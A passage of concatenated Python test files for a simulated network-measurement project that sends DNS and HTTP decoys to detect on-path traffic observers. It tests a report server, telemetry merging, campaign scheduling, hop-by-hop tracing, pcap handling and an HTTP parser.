                urllib.request.urlopen(url)
            assert excinfo.value.code == 404
            payload = json.loads(excinfo.value.read().decode())
            assert payload["error"]["code"] == "unknown_campaign"
        finally:
            server.stop()


class TestConcurrentReaders:
    def test_four_readers_hammering_report_during_ingest(self, runs):
        """Readers must always see a (digest, text) pair from the same
        state — never a digest of one snapshot with another's render."""
        seed = SEEDS[0]
        result = runs[seed]
        campaign = _campaign(seed)
        service = MeasurementService()
        server = ReportApiServer(service)
        server.start()
        url = f"http://127.0.0.1:{server.port}/campaigns/{campaign}/report"
        stop = threading.Event()
        failures = []

        def reader():
            while not stop.is_set():
                try:
                    with urllib.request.urlopen(url, timeout=10) as response:
                        payload = json.loads(response.read().decode())
                except urllib.error.HTTPError as error:
                    if error.code == 404:  # not registered yet
                        continue
                    failures.append(f"HTTP {error.code}")
                    return
                except Exception as error:  # noqa: BLE001
                    failures.append(repr(error))
                    return
                session = service.session(campaign)
                with session.lock:
                    rendered = full_report_from_state(session.state,
                                                      title=REPORT_TITLE)
                    current = session.state.digest()
                if payload["digest"] == current and payload["report"] != rendered:
                    failures.append("digest/text mismatch")
                    return

        threads = [threading.Thread(target=reader, daemon=True)
                   for _ in range(4)]
        for thread in threads:
            thread.start()
        try:
            _feed_all(service, result, campaign, batch_size=25)
        finally:
            stop.set()
            for thread in threads:
                thread.join(timeout=30)
            server.stop()
        assert not failures, failures
        _, digest, _ = service.session(campaign).report()
        assert digest == result.analysis.digest()


class TestReportCache:
    def test_hits_and_misses(self, runs):
        seed = SEEDS[0]
        result = runs[seed]
        campaign = _campaign(seed)
        service = MeasurementService()
        batches = list(feed_batches_from_result(result, campaign,
                                                batch_size=BATCH_SIZE))
        for batch in batches[:-1]:
            service.ingest(batch)
        session = service.session(campaign)
        _, _, version1 = session.report()
        _, _, version2 = session.report()
        telemetry = service.telemetry(campaign)
        assert version1 == version2 == 1
        assert telemetry["report"]["cache_misses"] == 1
        assert telemetry["report"]["cache_hits"] == 1
        assert telemetry["report"]["cache_hit_ratio"] == 0.5

        service.ingest(batches[-1])
        _, _, version3 = session.report()
        assert version3 == 2
        assert service.telemetry(campaign)["report"]["cache_misses"] == 2

    def test_version_endpoint_tracks_renders_without_rendering(self, runs):
        """``/version`` is the poller's change-detection handle: digest
        moves on ingest, version only on render, ``current`` says
        whether the cached artifact still matches the digest."""
        seed = SEEDS[0]
        result = runs[seed]
        campaign = _campaign(seed)
        service = MeasurementService()
        batches = list(feed_batches_from_result(result, campaign,
                                                batch_size=BATCH_SIZE))
        for batch in batches[:-1]:
            service.ingest(batch)
        server = ReportApiServer(service)
        server.start()
        base = f"http://127.0.0.1:{server.port}/campaigns/{campaign}"
        try:
            def get(path):
                with urllib.request.urlopen(base + path, timeout=10) as resp:
                    return json.loads(resp.read().decode()), dict(resp.headers)

            before, _ = get("/version")
            assert before["campaign"] == campaign
            assert before["version"] == 0 and before["current"] is False

            report, _ = get("/report")
            after, _ = get("/version")
            assert after["version"] == report["version"] == 1
            assert after["current"] is True
            assert after["digest"] == report["digest"]

            service.ingest(batches[-1])
            moved, _ = get("/version")
            assert moved["digest"] != after["digest"]
            assert moved["version"] == 1 and moved["current"] is False
            assert moved["digest"] == result.analysis.digest()
        finally:
            server.stop()

    def test_telemetry_exposes_ingest_rate(self, runs):
        seed = SEEDS[0]
        result = runs[seed]
        campaign = _campaign(seed)
        service = MeasurementService()
        _feed_all(service, result, campaign)
        telemetry = service.telemetry(campaign)
        assert telemetry["log_records"] == len(result.log)
        assert telemetry["ingest"]["records_per_second"] > 0


class TestCheckpointHygiene:
    def test_serve_and_run_checkpoints_do_not_mix(self, tmp_path):
        from repro.core.checkpoint import (
            CheckpointError,
            CheckpointStore,
            ServeCheckpointStore,
        )

        serve_store = ServeCheckpointStore(tmp_path)
        serve_store.save_meta()
        with pytest.raises(CheckpointError, match="serve"):
            CheckpointStore(tmp_path).load_meta()

    def test_wire_roundtrip_feed_and_state(self, runs):
        from repro.core.wire import (
            decode_feed_batch,
            decode_serve_state,
            encode_feed_batch,
            encode_serve_state,
        )

        result = runs[SEEDS[0]]
        campaign = _campaign(SEEDS[0])
        batches = list(feed_batches_from_result(result, campaign,
                                                batch_size=BATCH_SIZE))
        for batch in batches[:3]:
            decoded = decode_feed_batch(encode_feed_batch(batch))
            assert decoded.campaign_id == batch.campaign_id
            assert decoded.seq == batch.seq
            assert decoded.records == batch.records
            assert decoded.log_entries == batch.log_entries
            assert decoded.locations == batch.locations
            assert decoded.context == batch.context

        service = MeasurementService()
        _feed_all(service, result, campaign)
        session = service.session(campaign)
        state = decode_serve_state(session.state_blob())
        assert state.campaign_id == campaign
        assert state.seq == session.seq
        assert state.records == result.ledger.records()
        # JSON decode yields lists where the snapshot held tuples, so
        # compare the canonical encodings.
        assert json.dumps(state.analysis, sort_keys=True) == \
            json.dumps(session.state.snapshot(), sort_keys=True)

"""repro.telemetry: registry semantics, spans, export, and the
shard-merge acceptance property.

The acceptance criterion for the telemetry subsystem is twofold:

1. **Non-perturbation** — enabling telemetry changes nothing about the
   computed experiment (same ``result_digest`` as a telemetry-off run).
2. **Merge exactness** — a sharded run's merged counters and histograms
   equal the serial run's, value for value.  (Gauges and spans are
   per-process observations and deliberately excluded.)
"""

import json

import pytest

from repro.core.config import ExperimentConfig
from repro.core.experiment import Experiment
from repro.core.shard import result_digest
from repro.telemetry import (
    MERGE_SAME,
    MetricsRegistry,
    NULL_REGISTRY,
    PARENT_SHARD,
    RunTelemetry,
    Span,
    SpanTracer,
    labeled,
    load_telemetry,
    merge_spans,
    registry_for,
    render_telemetry,
    timings_from_spans,
    write_telemetry,
)

SEED = 41005


# -- registry unit semantics ----------------------------------------------


class TestCounters:
    def test_sum_merge_adds(self):
        a, b = MetricsRegistry(), MetricsRegistry()
        a.counter("sends").inc(3)
        b.counter("sends").inc(4)
        merged = MetricsRegistry.merged([a, b])
        assert merged.counter_values() == {"sends": 7}

    def test_same_merge_keeps_common_value(self):
        a, b = MetricsRegistry(), MetricsRegistry()
        a.counter("planned", merge=MERGE_SAME).inc(12)
        b.counter("planned", merge=MERGE_SAME).inc(12)
        merged = MetricsRegistry.merged([a, b])
        assert merged.counter_values() == {"planned": 12}

    def test_same_merge_tolerates_a_zero_source(self):
        # The sharded parent never schedules phase 1, so its registry may
        # simply lack (or hold zero for) a "same" counter the workers set.
        a, b = MetricsRegistry(), MetricsRegistry()
        a.counter("planned", merge=MERGE_SAME)
        b.counter("planned", merge=MERGE_SAME).inc(9)
        merged = MetricsRegistry.merged([a, b])
        assert merged.counter_values() == {"planned": 9}

    def test_same_merge_disagreement_raises(self):
        a, b = MetricsRegistry(), MetricsRegistry()
        a.counter("planned", merge=MERGE_SAME).inc(12)
        b.counter("planned", merge=MERGE_SAME).inc(13)
        with pytest.raises(ValueError, match="disagrees"):
            MetricsRegistry.merged([a, b])

    def test_conflicting_merge_policy_raises(self):
        registry = MetricsRegistry()
        registry.counter("x")
        with pytest.raises(ValueError, match="merge"):
            registry.counter("x", merge=MERGE_SAME)

    def test_unknown_merge_policy_raises(self):
        with pytest.raises(ValueError):
            MetricsRegistry().counter("x", merge="average")

    def test_handles_are_stable(self):
        registry = MetricsRegistry()
        assert registry.counter("x") is registry.counter("x")


class TestGaugesAndHistograms:
    def test_gauge_keeps_high_water_mark(self):
        gauge = MetricsRegistry().gauge("depth")
        gauge.record(5)
        gauge.record(3)
        assert gauge.value == 5

    def test_gauge_merge_is_max(self):
        a, b = MetricsRegistry(), MetricsRegistry()
        a.gauge("depth").record(5)
        b.gauge("depth").record(9)
        assert MetricsRegistry.merged([a, b]).gauge_values() == {"depth": 9}

    def test_histogram_buckets(self):
        histogram = MetricsRegistry().histogram("delay", (10, 100))
        for value in (1, 10, 11, 1000):
            histogram.observe(value)
        # counts[i] tallies <= bounds[i]; last bucket is overflow.
        assert histogram.counts == [2, 1, 1]
        assert histogram.total == 4

    def test_histogram_merge_adds_bucketwise(self):
        a, b = MetricsRegistry(), MetricsRegistry()
        a.histogram("delay", (10, 100)).observe(5)
        b.histogram("delay", (10, 100)).observe(50)
        merged = MetricsRegistry.merged([a, b])
        assert merged.histogram_values() == {"delay": [1, 1, 0]}

    def test_histogram_bounds_mismatch_raises(self):
        registry = MetricsRegistry()
        registry.histogram("delay", (10, 100))
        with pytest.raises(ValueError, match="bounds"):
            registry.histogram("delay", (10, 200))

    def test_invalid_bounds_raise(self):
        for bad in ((), (10, 10), (100, 10)):
            with pytest.raises(ValueError):
                MetricsRegistry().histogram("delay", bad)


class TestSnapshots:
    def test_roundtrip(self):
        registry = MetricsRegistry()
        registry.counter("a").inc(2)
        registry.counter("b", merge=MERGE_SAME).inc(7)
        registry.gauge("g").record(3.5)
        registry.histogram("h", (1, 2)).observe(1.5)
        clone = MetricsRegistry.from_snapshot(registry.snapshot())
        assert clone.snapshot() == registry.snapshot()

    def test_snapshot_is_json_serializable_and_sorted(self):
        registry = MetricsRegistry()
        registry.counter("zz").inc()
        registry.counter("aa").inc()
        snapshot = registry.snapshot()
        json.dumps(snapshot)
        assert list(snapshot["counters"]) == ["aa", "zz"]


class TestNullBackend:
    def test_null_registry_is_free_of_state(self):
        NULL_REGISTRY.counter("x").inc(100)
        NULL_REGISTRY.gauge("g").record(5)
        NULL_REGISTRY.histogram("h", (1,)).observe(2)
        assert NULL_REGISTRY.snapshot() == {
            "counters": {}, "gauges": {}, "histograms": {}}
        assert not NULL_REGISTRY.enabled

    def test_null_handles_are_shared_singletons(self):
        assert NULL_REGISTRY.counter("a") is NULL_REGISTRY.counter("b")
        assert NULL_REGISTRY.gauge("a") is NULL_REGISTRY.gauge("b")

    def test_registry_for(self):
        assert registry_for(False) is NULL_REGISTRY
        assert registry_for(True).enabled


class TestLabeled:
    def test_labels_sorted_and_canonical(self):
        assert (labeled("campaign.decoys_sent", protocol="dns", phase=1)
                == "campaign.decoys_sent[phase=1,protocol=dns]")

    def test_no_labels_is_identity(self):
        assert labeled("plain") == "plain"


# -- spans ----------------------------------------------------------------


class TestSpans:
    def test_tracer_records_wall_and_virtual(self):
        clock = iter([100.0, 250.0])
        tracer = SpanTracer(virtual_now=lambda: next(clock), shard=3)
        with tracer.span("phase1"):
            pass
        (span,) = tracer.spans
        assert span.name == "phase1"
        assert span.shard == 3
        assert span.wall_seconds >= 0
        assert (span.virtual_start, span.virtual_end) == (100.0, 250.0)
        assert span.virtual_seconds == 150.0

    def test_span_recorded_even_on_error(self):
        tracer = SpanTracer()
        with pytest.raises(RuntimeError):
            with tracer.span("boom"):
                raise RuntimeError("stage failed")
        assert [span.name for span in tracer.spans] == ["boom"]

    def test_merge_order_is_input_independent(self):
        def spans(shard):
            return [Span("phase1", 0.1, 0, 1, shard=shard),
                    Span("phase2", 0.2, 1, 2, shard=shard)]
        forward = merge_spans([spans(0), spans(1)])
        backward = merge_spans([spans(1), spans(0)])
        assert forward == backward
        assert [(s.name, s.shard) for s in forward] == [
            ("phase1", 0), ("phase1", 1), ("phase2", 0), ("phase2", 1)]

    def test_timings_from_spans_filters_and_accumulates(self):
        spans = [
            Span("phase1", 1.0, 0, 1, shard=PARENT_SHARD),
            Span("phase1", 0.5, 1, 2, shard=PARENT_SHARD),
            Span("phase1", 9.0, 0, 1, shard=0),
        ]
        assert timings_from_spans(spans) == {"phase1": 1.5}
        assert timings_from_spans(spans, shard=0) == {"phase1": 9.0}

    def test_span_dict_roundtrip(self):
        span = Span("build", 0.25, 10.0, 20.0, shard=2)
        assert Span.from_dict(span.to_dict()) == span


# -- end-to-end: the merge acceptance property ----------------------------


def _run(workers: int, telemetry: bool = True):
    config = ExperimentConfig.tiny(seed=SEED)
    config.workers = workers
    config.telemetry = telemetry
    return Experiment(config).run()


@pytest.fixture(scope="module")
def serial():
    return _run(1)


@pytest.fixture(scope="module")
def sharded():
    return _run(4)


class TestTelemetryMergeEqualsSerial:
    def test_counters_identical(self, serial, sharded):
        ours = serial.telemetry.metrics.snapshot()["counters"]
        theirs = sharded.telemetry.metrics.snapshot()["counters"]
        assert ours and ours == theirs

    def test_histograms_identical(self, serial, sharded):
        ours = serial.telemetry.metrics.snapshot()["histograms"]
        theirs = sharded.telemetry.metrics.snapshot()["histograms"]
        assert ours and ours == theirs

    def test_telemetry_does_not_perturb_the_run(self, serial):
        plain = _run(1, telemetry=False)
        assert result_digest(plain) == result_digest(serial)
        # The disabled run still carries spans (they are free), but no
        # metrics.
        assert plain.telemetry.metrics is NULL_REGISTRY
        assert not plain.telemetry.enabled

    def test_counters_cover_every_layer(self, serial):
        counters = serial.telemetry.metrics.counter_values()
        for prefix in ("campaign.decoys_sent", "sim.events.scheduled",
                       "honeypot.requests", "observer.observed",
                       "emitter.emitted", "vetting.kept"):
            assert any(name.startswith(prefix) for name in counters), prefix

    def test_consistency_across_layers(self, serial):
        counters = serial.telemetry.metrics.counter_values()
        sent = sum(value for name, value in counters.items()
                   if name.startswith("campaign.decoys_sent["))
        assert sent == len(serial.ledger)
        requests = sum(value for name, value in counters.items()
                       if name.startswith("honeypot.requests["))
        assert requests == len(serial.log)

    def test_spans_cover_the_pipeline(self, serial, sharded):
        assert {s.name for s in serial.telemetry.spans} == {
            "build", "phase1", "phase2", "correlate"}
        names = {(s.name, s.shard) for s in sharded.telemetry.spans}
        for shard in (PARENT_SHARD, 0, 1, 2, 3):
            assert ("phase1", shard) in names
        assert ("merge_final", PARENT_SHARD) in names

    def test_timings_derive_from_spans(self, serial):
        derived = timings_from_spans(serial.telemetry.spans)
        for name, seconds in derived.items():
            assert serial.timings[name] == seconds

    def test_meta_records_run_identity(self, sharded):
        assert sharded.telemetry.meta["seed"] == SEED
        assert sharded.telemetry.meta["workers"] == 4


# -- export + render + CLI ------------------------------------------------


class TestExportAndRender:
    def test_write_load_roundtrip(self, serial, tmp_path):
        capture = write_telemetry(serial.telemetry, tmp_path / "tel")
        loaded = load_telemetry(capture)
        assert (loaded.metrics.snapshot()
                == serial.telemetry.metrics.snapshot())
        assert loaded.spans == serial.telemetry.spans
        assert loaded.meta["seed"] == SEED

    def test_load_accepts_directory_and_spans_file(self, serial, tmp_path):
        write_telemetry(serial.telemetry, tmp_path)
        from_dir = load_telemetry(tmp_path)
        assert from_dir.spans == serial.telemetry.spans
        spans_only = load_telemetry(tmp_path / "spans.jsonl")
        assert spans_only.spans == serial.telemetry.spans

    def test_load_missing_raises(self, tmp_path):
        with pytest.raises(FileNotFoundError):
            load_telemetry(tmp_path / "nope")

    def test_render_mentions_every_section(self, serial):
        text = render_telemetry(serial.telemetry)
        for needle in ("Counters", "Gauges", "Histograms", "Stage spans",
                       "campaign.sends_planned", "sim.heap.max_depth"):
            assert needle in text

    def test_render_empty_capture(self):
        text = render_telemetry(RunTelemetry())
        assert "empty" in text


class TestCli:
    def test_run_and_render(self, tmp_path, capsys):
        from repro.cli import main
        capture = tmp_path / "tel"
        code = main(["run", "--tiny", "--seed", str(SEED),
                     "--telemetry", str(capture),
                     "--output", str(tmp_path / "report.txt")])
        assert code == 0
        assert (capture / "telemetry.json").exists()
        assert (capture / "spans.jsonl").exists()
        capsys.readouterr()
        assert main(["telemetry", str(capture)]) == 0
        out = capsys.readouterr().out
        assert "campaign.sends_planned" in out

    def test_missing_capture_fails_cleanly(self, tmp_path):
        from repro.cli import main
        assert main(["telemetry", str(tmp_path / "absent")]) == 2

"""Focused unit tests for Campaign and HopByHopTracer internals."""

import pytest

from repro.core.campaign import Campaign
from repro.core.config import ExperimentConfig
from repro.core.correlate import Correlator
from repro.core.ecosystem import build_ecosystem
from repro.core.phase2 import HopByHopTracer
from repro.datasets.resolvers import DESTINATIONS_BY_NAME


@pytest.fixture()
def eco():
    config = ExperimentConfig.tiny(seed=909090)
    config.interceptors_enabled = False
    return build_ecosystem(config)


@pytest.fixture()
def campaign(eco):
    return Campaign(eco)


def google_info(campaign, vp):
    destination = DESTINATIONS_BY_NAME["Google"]
    return campaign.path_info(vp, destination.address, 15169,
                              destination.country, service_name="Google")


class TestPathInfo:
    def test_cached_per_vp_destination_pair(self, campaign):
        vp = campaign.eco.platform.vantage_points[0]
        first = google_info(campaign, vp)
        second = google_info(campaign, vp)
        assert first is second

    def test_instance_country_follows_anycast(self, campaign):
        cn_vp = next(vp for vp in campaign.eco.platform.vantage_points
                     if vp.country == "CN")
        global_vp = next(vp for vp in campaign.eco.platform.vantage_points
                         if vp.country not in ("CN", "US"))
        destination = DESTINATIONS_BY_NAME["114DNS"]
        cn_info = campaign.path_info(cn_vp, destination.address, 9808,
                                     "CN", service_name="114DNS")
        global_info = campaign.path_info(global_vp, destination.address, 9808,
                                         "CN", service_name="114DNS")
        assert cn_info.instance_country == "CN"
        assert global_info.instance_country == "US"

    def test_path_terminates_at_destination_address(self, campaign):
        vp = campaign.eco.platform.vantage_points[0]
        info = google_info(campaign, vp)
        assert info.path.destination.address == "8.8.8.8"


class TestSequences:
    def test_monotonic_per_pair(self, campaign):
        vp = campaign.eco.platform.vantage_points[0]
        values = [campaign.next_sequence(vp, "8.8.8.8") for _ in range(5)]
        assert values == [0, 1, 2, 3, 4]

    def test_independent_across_pairs(self, campaign):
        vp = campaign.eco.platform.vantage_points[0]
        campaign.next_sequence(vp, "8.8.8.8")
        assert campaign.next_sequence(vp, "9.9.9.9") == 0

    def test_wraps_at_10000(self, campaign):
        vp = campaign.eco.platform.vantage_points[0]
        campaign._sequences[(vp.address, "8.8.8.8")] = 9999
        assert campaign.next_sequence(vp, "8.8.8.8") == 9999
        assert campaign.next_sequence(vp, "8.8.8.8") == 0


class TestSendDecoy:
    def test_dns_send_registers_and_delivers(self, campaign):
        vp = campaign.eco.platform.vantage_points[0]
        destination = DESTINATIONS_BY_NAME["Google"]
        info = google_info(campaign, vp)
        outcome = campaign.send_decoy(info, "dns", ttl=64, phase=1,
                                      destination=destination)
        assert outcome.transit.delivered
        assert campaign.ledger.lookup(outcome.record.domain) is outcome.record
        model = campaign.eco.resolver_models[destination.address]
        assert model.decoys_received == 1

    def test_low_ttl_probe_expires_with_icmp(self, campaign):
        vp = campaign.eco.platform.vantage_points[0]
        destination = DESTINATIONS_BY_NAME["Google"]
        info = google_info(campaign, vp)
        outcome = campaign.send_decoy(info, "dns", ttl=1, phase=2,
                                      destination=destination)
        assert not outcome.transit.delivered
        assert outcome.record.identity.ttl == 1

    def test_identity_encodes_vp_and_destination(self, campaign):
        vp = campaign.eco.platform.vantage_points[0]
        destination = DESTINATIONS_BY_NAME["Google"]
        info = google_info(campaign, vp)
        outcome = campaign.send_decoy(info, "dns", ttl=64, phase=1,
                                      destination=destination)
        identity = campaign.factory.codec.decode_domain(
            outcome.record.domain, campaign.config.zone
        )
        assert identity.vp_address == vp.address
        assert identity.dst_address == destination.address
        assert identity.ttl == 64

    def test_http_phase1_send_uses_handshake(self, campaign):
        """Phase I HTTP decoys ride an established TCP connection, so the
        payload packet that transits carries the handshake's sequencing."""
        vp = campaign.eco.platform.vantage_points[0]
        destination = campaign.eco.web_destinations[0]
        info = campaign.path_info(vp, destination.address, destination.asn,
                                  destination.country,
                                  service_name=destination.site)
        seen_flags = []
        info.path.add_tap(1, lambda position, hop, packet:
                          seen_flags.append(packet.transport.flags))
        outcome = campaign.send_decoy(info, "http", ttl=64, phase=1,
                                      destination=destination)
        assert outcome.transit.delivered
        from repro.net.packet import TCPSegment
        assert any(flags & TCPSegment.FLAG_SYN for flags in seen_flags)

    def test_http_phase2_send_skips_handshake(self, campaign):
        vp = campaign.eco.platform.vantage_points[1]
        destination = campaign.eco.web_destinations[0]
        info = campaign.path_info(vp, destination.address, destination.asn,
                                  destination.country,
                                  service_name=destination.site)
        seen_flags = []
        info.path.add_tap(1, lambda position, hop, packet:
                          seen_flags.append(packet.transport.flags))
        campaign.send_decoy(info, "http", ttl=2, phase=2,
                            destination=destination)
        from repro.net.packet import TCPSegment
        assert not any(flags & TCPSegment.FLAG_SYN for flags in seen_flags)


class TestTracer:
    def test_probe_count_equals_path_length(self, campaign):
        vp = campaign.eco.platform.vantage_points[0]
        destination = DESTINATIONS_BY_NAME["Google"]
        info = google_info(campaign, vp)
        tracer = HopByHopTracer(campaign)
        probe_set = tracer.schedule_traceroute(info, "dns", destination)
        campaign.eco.sim.run(until=campaign.eco.sim.now() + 3600)
        assert len(probe_set.domains_by_ttl) == info.path.length

    def test_icmp_reporters_cover_intermediate_hops(self, campaign):
        vp = campaign.eco.platform.vantage_points[0]
        destination = DESTINATIONS_BY_NAME["Google"]
        info = google_info(campaign, vp)
        tracer = HopByHopTracer(campaign)
        probe_set = tracer.schedule_traceroute(info, "dns", destination)
        campaign.eco.sim.run(until=campaign.eco.sim.now() + 3600)
        # Every responding intermediate hop reported exactly its address.
        for ttl, reporter in probe_set.icmp_reporters.items():
            assert info.path.hop_at(ttl).address == reporter
        assert info.path.length not in probe_set.icmp_reporters

    def test_locate_picks_minimal_triggering_ttl(self, campaign):
        vp = campaign.eco.platform.vantage_points[0]
        destination = DESTINATIONS_BY_NAME["Yandex"]
        info = campaign.path_info(vp, destination.address, 13238,
                                  destination.country, service_name="Yandex")
        tracer = HopByHopTracer(campaign)
        tracer.schedule_traceroute(info, "dns", destination)
        sim = campaign.eco.sim
        sim.run(until=sim.now() + campaign.config.phase2_observation_window)
        correlator = Correlator(campaign.ledger, zone=campaign.config.zone)
        phase2 = correlator.correlate(campaign.eco.deployment.log, phase=2)
        locations = tracer.locate(phase2)
        assert len(locations) == 1
        location = locations[0]
        # Yandex shadows at the destination: the probe that first triggers
        # is the one that reaches it.
        assert location.located
        assert location.at_destination
        assert location.observer_address is None

    def test_unlocated_when_nothing_triggers(self, campaign):
        vp = campaign.eco.platform.vantage_points[0]
        destination = DESTINATIONS_BY_NAME["SelfBuilt"]
        info = campaign.path_info(vp, destination.address, 64512,
                                  destination.country, service_name="SelfBuilt")
        tracer = HopByHopTracer(campaign)
        tracer.schedule_traceroute(info, "dns", destination)
        sim = campaign.eco.sim
        sim.run(until=sim.now() + 3600)
        correlator = Correlator(campaign.ledger, zone=campaign.config.zone)
        phase2 = correlator.correlate(campaign.eco.deployment.log, phase=2)
        locations = tracer.locate(phase2)
        assert not locations[0].located
        assert locations[0].normalized_hop() is None


class TestPhase1Scheduling:
    def test_rate_limit_spaces_sends_per_target(self, eco):
        """Ethics appendix: at most 2 decoys/second toward any target."""
        campaign = Campaign(eco)
        campaign.vet_platform()
        campaign.schedule_phase1()
        eco.sim.run(until=campaign.last_send_time)
        by_target = {}
        for record in campaign.ledger.records(phase=1):
            by_target.setdefault(record.destination_address, []).append(
                record.sent_at
            )
        for target, times in by_target.items():
            times.sort()
            gaps = [b - a for a, b in zip(times, times[1:])]
            assert all(gap >= 0.499 for gap in gaps), target

    def test_multi_round_repeats_every_pair(self, eco):
        config = eco.config
        config.phase1_rounds = 2
        campaign = Campaign(eco)
        campaign.vet_platform()
        scheduled = campaign.schedule_phase1()
        eco.sim.run(until=campaign.last_send_time)
        records = campaign.ledger.records(phase=1)
        assert len(records) == scheduled
        pairs_round0 = {(record.vp_id, record.destination_address,
                         record.protocol)
                        for record in records if record.round_index == 0}
        pairs_round1 = {(record.vp_id, record.destination_address,
                         record.protocol)
                        for record in records if record.round_index == 1}
        assert pairs_round0 == pairs_round1

    def test_empty_platform_rejected(self, eco):
        campaign = Campaign(eco)
        eco.platform.replace_vps([])
        with pytest.raises(RuntimeError):
            campaign.schedule_phase1()

"""Tests for pcap capture files and the incremental HTTP parser."""

import io
import struct

import pytest

from repro.net.packet import Packet
from repro.net.path import Hop, Path
from repro.net.pcap import (
    CaptureTap,
    LINKTYPE_RAW,
    PCAP_MAGIC,
    PcapFormatError,
    PcapWriter,
    read_pcap,
)
from repro.protocols.http import HttpMessageError, make_get
from repro.protocols.http.incremental import HttpRequestParser


def sample_packet(ttl=64):
    return Packet.udp("100.96.0.1", "8.8.8.8", ttl, 40000, 53, b"query-bytes")


class TestPcapWriter:
    def test_global_header_shape(self):
        stream = io.BytesIO()
        PcapWriter(stream)
        header = stream.getvalue()
        magic, major, minor, _, _, snaplen, linktype = struct.unpack(
            "<IHHiIII", header
        )
        assert magic == PCAP_MAGIC
        assert (major, minor) == (2, 4)
        assert linktype == LINKTYPE_RAW

    def test_roundtrip(self):
        stream = io.BytesIO()
        writer = PcapWriter(stream)
        writer.write(sample_packet(), timestamp=12.5)
        writer.write(sample_packet(ttl=3), timestamp=99.000001)
        stream.seek(0)
        captured = read_pcap(stream)
        assert len(captured) == 2
        assert captured[0].timestamp == pytest.approx(12.5)
        assert captured[0].decode() == sample_packet()
        assert captured[1].decode().ip.ttl == 3

    def test_snaplen_truncates(self):
        stream = io.BytesIO()
        writer = PcapWriter(stream, snaplen=10)
        writer.write(sample_packet(), timestamp=1.0)
        stream.seek(0)
        captured = read_pcap(stream)
        assert len(captured[0].data) == 10

    def test_raw_bytes_accepted(self):
        stream = io.BytesIO()
        writer = PcapWriter(stream)
        writer.write(b"\x45\x00rawbytes", timestamp=0.0)
        stream.seek(0)
        assert read_pcap(stream)[0].data.startswith(b"\x45")

    def test_negative_timestamp_rejected(self):
        writer = PcapWriter(io.BytesIO())
        with pytest.raises(ValueError):
            writer.write(sample_packet(), timestamp=-1.0)

    def test_reader_rejects_bad_magic(self):
        with pytest.raises(PcapFormatError):
            read_pcap(io.BytesIO(b"\x00" * 24))

    def test_reader_rejects_truncated_record(self):
        stream = io.BytesIO()
        writer = PcapWriter(stream)
        writer.write(sample_packet(), timestamp=1.0)
        data = stream.getvalue()[:-4]
        with pytest.raises(PcapFormatError):
            read_pcap(io.BytesIO(data))

    def test_capture_tap_on_path(self):
        stream = io.BytesIO()
        writer = PcapWriter(stream)
        now = [42.0]
        hops = [
            Hop("10.0.0.1", 1, "US"),
            Hop("8.8.8.8", 2, "US", is_destination=True),
        ]
        path = Path(hops)
        path.add_tap(1, CaptureTap(writer, lambda: now[0]))
        path.transit(sample_packet())
        stream.seek(0)
        captured = read_pcap(stream)
        assert len(captured) == 1
        assert captured[0].timestamp == pytest.approx(42.0)
        assert captured[0].decode().payload == b"query-bytes"


class TestIncrementalHttp:
    def test_single_feed(self):
        parser = HttpRequestParser()
        requests = parser.feed(make_get("a.example").encode())
        assert [request.host for request in requests] == ["a.example"]

    def test_byte_at_a_time(self):
        parser = HttpRequestParser()
        wire = make_get("slow.example").encode()
        collected = []
        for index in range(len(wire)):
            collected += parser.feed(wire[index:index + 1])
        assert len(collected) == 1
        assert collected[0].host == "slow.example"
        assert parser.buffered == 0

    def test_pipelined_requests(self):
        parser = HttpRequestParser()
        wire = make_get("one.example").encode() + make_get("two.example").encode()
        requests = parser.feed(wire)
        assert [request.host for request in requests] == ["one.example", "two.example"]

    def test_body_framing(self):
        parser = HttpRequestParser()
        from repro.protocols.http import HttpRequest
        request = HttpRequest(method="POST", path="/submit",
                              headers=(("Host", "x.example"),), body=b"hello")
        wire = request.encode()
        assert parser.feed(wire[:-3]) == []
        completed = parser.feed(wire[-3:])
        assert completed[0].body == b"hello"

    def test_oversized_head_rejected(self):
        parser = HttpRequestParser(max_head_bytes=64)
        with pytest.raises(HttpMessageError):
            parser.feed(b"GET /" + b"a" * 100)

    def test_oversized_body_rejected(self):
        parser = HttpRequestParser(max_body_bytes=10)
        wire = (b"POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 100\r\n\r\n")
        with pytest.raises(HttpMessageError):
            parser.feed(wire)

    def test_bad_content_length_rejected(self):
        parser = HttpRequestParser()
        with pytest.raises(HttpMessageError):
            parser.feed(b"POST / HTTP/1.1\r\nContent-Length: abc\r\n\r\n")

    def test_counter(self):
        parser = HttpRequestParser()
        parser.feed(make_get("a.example").encode())
        parser.feed(make_get("b.example").encode())
        assert parser.requests_parsed == 2


class TestCampaignCapture:
    def test_experiment_writes_decoy_pcap(self, tmp_path):
        from repro.core.config import ExperimentConfig
        from repro.core.experiment import Experiment
        from repro.net.pcap import read_pcap
        pcap_path = tmp_path / "decoys.pcap"
        config = ExperimentConfig.tiny(seed=454545)
        config.capture_pcap = str(pcap_path)
        result = Experiment(config).run()
        with pcap_path.open("rb") as handle:
            captured = read_pcap(handle)
        # One record per decoy sent (Phase I + Phase II probes).
        assert len(captured) == len(result.ledger)
        # Records decode back to valid packets with experiment addressing.
        sample = captured[0].decode()
        assert sample.ip.ttl >= 1
        timestamps = [packet.timestamp for packet in captured]
        assert timestamps == sorted(timestamps)

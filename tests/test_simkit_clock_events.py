"""Unit tests for the virtual clock and the event loop."""

import pytest

from repro.simkit import Simulator, VirtualClock


class TestVirtualClock:
    def test_starts_at_zero_by_default(self):
        assert VirtualClock().now() == 0.0

    def test_starts_at_given_time(self):
        assert VirtualClock(5.0).now() == 5.0

    def test_rejects_negative_start(self):
        with pytest.raises(ValueError):
            VirtualClock(-1.0)

    def test_advance_moves_forward(self):
        clock = VirtualClock()
        clock.advance_to(10.0)
        assert clock.now() == 10.0

    def test_advance_to_same_instant_is_allowed(self):
        clock = VirtualClock(3.0)
        clock.advance_to(3.0)
        assert clock.now() == 3.0

    def test_advance_backwards_raises(self):
        clock = VirtualClock(10.0)
        with pytest.raises(ValueError):
            clock.advance_to(5.0)


class TestSimulator:
    def test_events_fire_in_time_order(self):
        sim = Simulator()
        fired = []
        sim.schedule_at(5.0, lambda: fired.append("late"))
        sim.schedule_at(1.0, lambda: fired.append("early"))
        sim.run()
        assert fired == ["early", "late"]

    def test_simultaneous_events_fire_in_scheduling_order(self):
        sim = Simulator()
        fired = []
        for tag in ("a", "b", "c"):
            sim.schedule_at(2.0, lambda tag=tag: fired.append(tag))
        sim.run()
        assert fired == ["a", "b", "c"]

    def test_clock_tracks_event_times(self):
        sim = Simulator()
        seen = []
        sim.schedule_at(4.0, lambda: seen.append(sim.now()))
        sim.run()
